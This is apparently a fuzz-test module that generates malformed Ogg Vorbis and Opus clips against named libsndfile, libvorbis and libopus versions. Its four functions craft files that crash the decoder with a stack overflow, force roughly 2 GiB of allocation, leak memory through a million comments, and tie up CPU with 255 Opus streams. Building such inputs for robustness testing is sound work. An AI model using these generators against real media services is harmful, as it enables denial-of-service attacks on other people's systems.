"""Clips that are made to harm the decoder (libsndfile 1.2.2 with libvorbis 1.3.7 and libopus 1.4)."""

import struct
from collections.abc import Iterator

from tests.fuzz.containers import OGG, Part, page, pages

_VORBIS_ID = b"\1vorbis" + struct.pack("<IBIiiiBB", 0, 1, 8000, 0, 64000, 0, 0xB8, 1)
_NO_COMMENT = b"\3vorbis" + struct.pack("<II", 0, 0) + b"\1"


class Bits:
    """Numbers of any width, the lowest bit first, as Vorbis has them."""

    def __init__(self) -> None:
        self._value, self._width = 0, 0

    def put(self, *numbers: tuple[int, int]) -> "Bits":
        """Each a value and a width."""
        for value, width in numbers:
            self._value |= value << self._width
            self._width += width
        return self

    def __bytes__(self) -> bytes:
        return self._value.to_bytes((self._width + 7) // 8, "little")


def crashing() -> bytes:
    """222 bytes: a code of 4 million words, which libvorbis sorts on the stack (32 MiB): SIGSEGV."""
    setup = _codes(1, 2**22, 22)
    setup.put((0, 6), (0, 16))  # no time transform
    setup.put((0, 6), (1, 16), (0, 5), (0, 2), (7, 4))  # a floor without partitions
    setup.put((0, 6), (0, 16), (0, 72), (0, 6), (0, 8), (0, 3), (0, 1))  # a residue of nothing
    setup.put((0, 6), (0, 16), (0, 1), (0, 1), (0, 2), (0, 24))  # a mapping
    setup.put((0, 6), (0, 1), (0, 16), (0, 16), (0, 8), (1, 1))  # a mode, and the end
    return _vorbis(setup)


def swelling() -> bytes:
    """3 KB: 256 codes of 8 million words each, told in 12 bytes: 2 GiB are taken before it is refused."""
    return _vorbis(_codes(256, 2**23 - 1, 23).put((0, 64)))


def _codes(codes: int, words: int, bits: int) -> Bits:
    """A setup's beginning: codes, all words of which have so many bits."""
    setup = Bits().put((codes - 1, 8))
    for _ in range(codes):
        setup.put(
            (0x564342, 24), (1, 16), (words, 24), (1, 1), (bits - 1, 5), (words, words.bit_length()), (0, 4)
        )
    return setup


def _vorbis(setup: Bits) -> bytes:
    packets = (_VORBIS_ID, _NO_COMMENT, b"\5vorbis" + bytes(setup), bytes(10))
    return OGG.closed(b"".join(page(at, packet, flags=0 if at else 2) for at, packet in enumerate(packets)))


def leaking(comments: int = 1_000_000) -> bytes:
    """4 bytes for each of its comments, and then it ends: 40 for each are never given back."""
    packet = b"\3vorbis" + struct.pack("<II", 0, comments) + bytes(4 * comments) + b"\1"
    return OGG.closed(page(0, _VORBIS_ID, flags=2) + b"".join(pages(1, packet)))


def slow(seconds: float = 29.8) -> bytes:
    """0.8 MB: 255 streams of Opus for two channels, silent but for their first 20 ms: 12 s of work."""
    head = b"OpusHead" + struct.pack("<BBHIhB", 1, 2, 0, 48000, 0, 255) + bytes([255, 0, 0, 1])
    tags = b"OpusTags" + struct.pack("<II", 0, 0)
    return OGG.closed(b"".join([page(0, head, flags=2), page(1, tags), *_opus_pages(int(seconds * 50))]))


def _opus_pages(packets: int) -> Iterator[Part]:
    celt = 31 << 3  # full band, 20 ms
    for number in range(packets):
        content = b"" if number else bytes(range(100, 140))
        packet = bytes([celt, len(content), *content]) * 254 + bytes([celt]) + content
        yield page(number + 2, packet, 960 * (number + 1))
